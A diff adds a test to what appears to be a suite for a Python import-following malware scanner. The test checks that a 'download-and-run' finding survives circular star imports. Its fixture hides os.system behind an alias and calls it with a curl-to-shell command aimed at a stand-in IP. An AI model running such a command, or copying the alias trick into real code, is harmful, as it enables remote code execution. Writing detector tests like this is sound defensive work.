@@ -132,6 +132,15 @@ def test_a_broken_or_endless_neighbour_is_only_unknown() -> None:
         assert scan("load.py", {"load.py": "import util\nutil.f()", "util.py": helper}).findings == ()
 
 
+def test_modules_that_star_each_other() -> None:
+    files = {
+        "load.py": "from a import *\nabsent(1)\npresent('curl http://192.0.2.10/stage | sh')",
+        "a.py": "from b import *",
+        "b.py": "from a import *\nfrom os import system as present",
+    }
+    assert findings(scan("load.py", files)) == [("download-and-run", "download-and-run")]
+
+
 def test_long_chains_of_imports_end() -> None:
     files: dict[str, str | bytes] = {f"m{i}.py": f"import m{i + 1}\nimport m{i + 2}\n" for i in range(200)}
     report = scan("m0.py", files)
